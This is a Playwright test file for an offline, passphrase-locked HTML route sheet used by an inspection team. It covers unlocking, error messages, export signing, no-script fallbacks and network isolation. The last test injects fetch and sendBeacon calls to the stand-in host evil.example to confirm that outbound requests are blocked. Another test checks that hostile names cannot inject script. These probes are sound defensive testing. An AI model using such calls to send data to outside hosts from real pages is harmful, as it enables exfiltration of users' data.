"""The route sheet as a team opens it: from a folder, no network, under its own policy."""

import hashlib
import hmac
import json
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect
from sample_sheet import HOSTILE, PASSPHRASE, page_words, sample_sheet, words

from documents.route_sheet import locked_sheet_html, open_sheet_html
from documents.sheet_paper import SheetPaper

pytestmark = pytest.mark.browser
SAY = page_words()
Write = Callable[..., Path]
UNLOCK_MS = 20_000


@pytest.fixture
def write(tmp_path: Path) -> Write:
    """Return what writes a sheet into a folder."""

    def write_sheet(make=locked_sheet_html, **changes) -> Path:
        paper = SheetPaper(
            sheet=sample_sheet(**changes), passphrase=PASSPHRASE, salt=bytes(range(16)), nonce=bytes(range(12))
        )
        path = tmp_path / "phieu.html"
        path.write_bytes(make(paper, words=words()))
        return path

    return write_sheet


class Tablet:
    """Keep a page with what it asked for and what it complained about."""

    def __init__(self, context: BrowserContext) -> None:
        self.page = context.new_page()
        self.asked: list[str] = []
        self.complaints: list[str] = []
        self.page.on("request", lambda request: self.asked.append(request.url))
        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
        self.page.on("console", lambda line: self.complaints.append(line.text) if line.type == "error" else None)

    def open(self, path: Path) -> Page:
        self.page.goto(path.as_uri())
        return self.page

    def unlock(self, passphrase: str = PASSPHRASE) -> None:
        self.page.fill("#passphrase", passphrase)
        self.page.press("#passphrase", "Enter")
        self.page.locator("#field[data-ready]").wait_for(timeout=UNLOCK_MS)

    def is_alone(self, path: Path) -> bool:
        """Tell whether it asked for nothing but its own file (and what it made by itself)."""
        return {url for url in self.asked if not url.startswith("blob:")} == {path.as_uri()}


@pytest.fixture
def tablet(context: BrowserContext) -> Tablet:
    """Return a tablet in a browser of its own."""
    return Tablet(context)


def export(page: Page) -> dict:
    page.get_by_role("button", name=SAY["tab_done"]).click()
    with page.expect_download() as download:
        page.get_by_role("button", name=SAY["export"]).click()
    return json.loads(Path(download.value.path()).read_text("utf-8"))


def arrive(page: Page) -> None:
    page.get_by_role("button", name=SAY["arrive"], exact=True).click()
    page.get_by_role("button", name=SAY["back"]).click()


def test_it_opens_records_keeps_and_hands_over_without_network(tablet: Tablet, write: Write) -> None:
    path = write()
    page = tablet.open(path)
    tablet.unlock(PASSPHRASE.lower().replace("-", " "))
    assert page.title() == "Đoàn kiểm tra liên ngành số 1 · 05/03/2027"
    arrive(page)
    expect(page.locator(".badge")).to_have_text(SAY["in_file"].format(count=1))
    page.reload()
    tablet.unlock()
    expect(page.locator(".badge")).to_have_text(SAY["in_file"].format(count=1))
    results = export(page)
    body = json.loads(results["body"])
    assert (body["sheet"], body["team"]) == ("D2027-01/D1-2027-03-05/r3.0", "D1")
    assert [(r["stop"], r["status"]) for r in body["results"]] == [("CS000001", "arrived")]
    expected = hmac.new(bytes.fromhex("5f" * 32), results["body"].encode(), hashlib.sha256).hexdigest()
    assert results["mark"] == expected
    page.get_by_role("button", name=SAY["tab_map"]).click()
    expect(page.locator(".map-stop")).to_have_count(9)
    assert tablet.is_alone(path) and tablet.complaints == []


@pytest.mark.parametrize(
    ("typed", "key"),
    [
        ("K7QM-2RXA-9TPD-LW4H-E8Z2", "wrong"),
        ("K7QM-2RXA-9TPD", "too_short"),
        ("K7QM-2RXA-9TPD-LW4H-E8Z0", "unused_sign"),
        ("K7QM-2RXÂ-9TPĐ-LW4H-E8ZN", "not_latin"),
    ],
)
def test_what_is_wrong_with_a_passphrase_is_said_calmly(tablet: Tablet, write: Write, typed: str, key: str) -> None:
    page = tablet.open(write())
    page.fill("#passphrase", typed)
    page.get_by_role("button", name=words().say("sheet.open")).click()
    expect(page.get_by_role("alert")).to_have_text(words().say(f"sheet.{key}", count=12), timeout=UNLOCK_MS)
    expect(page.locator("#field")).to_be_hidden()
    tablet.unlock()
    assert tablet.complaints == []


def test_a_cut_file_is_told_apart_from_a_wrong_passphrase(tablet: Tablet, write: Write) -> None:
    path = write()
    text = path.read_text("utf-8")
    # A salt that is no base64 any more: the file, not the passphrase, is at fault.
    path.write_text(text.replace('"salt":"', '"salt":"*'), encoding="utf-8")
    page = tablet.open(path)
    page.fill("#passphrase", PASSPHRASE)
    page.press("#passphrase", "Enter")
    expect(page.get_by_role("alert")).to_have_text(words().say("sheet.damaged"))


@pytest.mark.parametrize("missing", ["DecompressionStream", "crypto"])
def test_an_old_browser_is_sent_to_the_paper(context: BrowserContext, write: Write, missing: str) -> None:
    context.add_init_script(f"Object.defineProperty(globalThis, '{missing}', {{ value: undefined }})")
    page = Tablet(context).open(write())
    expect(page.get_by_role("alert")).to_have_text(words().say("sheet.too_old"))
    expect(page.locator("#lock")).to_be_hidden()


def test_a_blocked_storage_is_told_and_the_file_still_comes_out(tablet: Tablet, write: Write, tmp_path: Path) -> None:
    path = write()
    frame = tmp_path / "frame.html"
    sandbox = "allow-scripts allow-downloads allow-forms"
    frame.write_text(f'<iframe src="{path.name}" sandbox="{sandbox}" style="width:800px;height:1000px"></iframe>')
    page = tablet.open(frame)
    inside = page.frame_locator("iframe")
    inside.locator("#passphrase").fill(PASSPHRASE)
    inside.locator("#passphrase").press("Enter")
    expect(inside.get_by_role("alert").filter(has_text="CHƯA LƯU ĐƯỢC")).to_be_visible(timeout=UNLOCK_MS)
    inside.get_by_role("button", name=SAY["arrive"], exact=True).click()
    inside.get_by_role("button", name=SAY["back"]).click()
    inside.get_by_role("button", name=SAY["tab_done"]).click()
    with page.expect_download() as download:
        inside.get_by_role("button", name=SAY["export"]).click()
    assert "CS000001" in json.loads(Path(download.value.path()).read_text("utf-8"))["body"]


def test_without_javascript_an_open_sheet_is_a_table_and_a_locked_one_names_the_paper(
    chromium: Browser, write: Write
) -> None:
    context = chromium.new_context(java_script_enabled=False, viewport={"width": 820, "height": 1180})
    page = context.new_page()
    page.goto(write().as_uri())
    expect(page.get_by_text(words().say("sheet.no_script_locked"))).to_be_visible()
    expect(page.locator("#passphrase")).to_be_hidden()
    page.goto(write(open_sheet_html).as_uri())
    expect(page.locator("tbody tr")).to_have_count(9)
    expect(page.get_by_text("Nhà nghỉ Hoa Sữa 9")).to_be_visible()
    expect(page.get_by_text(words().say("sheet.no_script"))).to_be_visible()
    assert page.get_by_role("link").first.get_attribute("href") == "geo:11.549000,106.153000?q=11.549000,106.153000"
    context.close()


def test_an_open_sheet_becomes_the_page_at_once(tablet: Tablet, write: Write) -> None:
    path = write(open_sheet_html)
    page = tablet.open(path)
    page.locator("#field[data-ready]").wait_for()
    expect(page.locator("table")).to_have_count(0)
    assert tablet.is_alone(path) and tablet.complaints == []


@pytest.mark.parametrize("make", [locked_sheet_html, open_sheet_html])
def test_hostile_names_are_shown_as_text(tablet: Tablet, write: Write, make) -> None:
    path = write(
        make,
        stops=len(HOSTILE),
        names=HOSTILE,
        team_name=HOSTILE[0],
        base={"name": HOSTILE[1], "lon": 106.1, "lat": 11.5},
    )
    page = tablet.open(path)
    if make is locked_sheet_html:
        tablet.unlock()
    page.locator("#field[data-ready]").wait_for()
    page.get_by_role("button", name=SAY["tab_list"]).click()
    shown = page.locator("li .body b").all_text_contents()
    assert [name in shown for name in HOSTILE[:10]] == [True] * 10
    page.get_by_role("button", name=SAY["tab_map"]).click()
    page.locator(".map-stop").first.hover()
    assert page.evaluate("window.pwned") is None
    assert page.locator("#field img, #field iframe").count() == 0
    assert tablet.is_alone(path) and tablet.complaints == []


def test_nothing_inside_can_send_anything_out(tablet: Tablet, write: Write) -> None:
    page = tablet.open(write(open_sheet_html))
    page.locator("#field[data-ready]").wait_for()
    sent = page.evaluate(
        """async () => {
            const tries = [() => fetch("https://evil.example/"), () => navigator.sendBeacon("https://evil.example/")];
            const ends = [];
            for (const act of tries) ends.push(await Promise.resolve().then(act).then(String, () => "stopped"));
            return ends;
        }"""
    )
    assert sent[0] == "stopped"
    assert not any(url.startswith("https://evil.example") for url in tablet.asked)
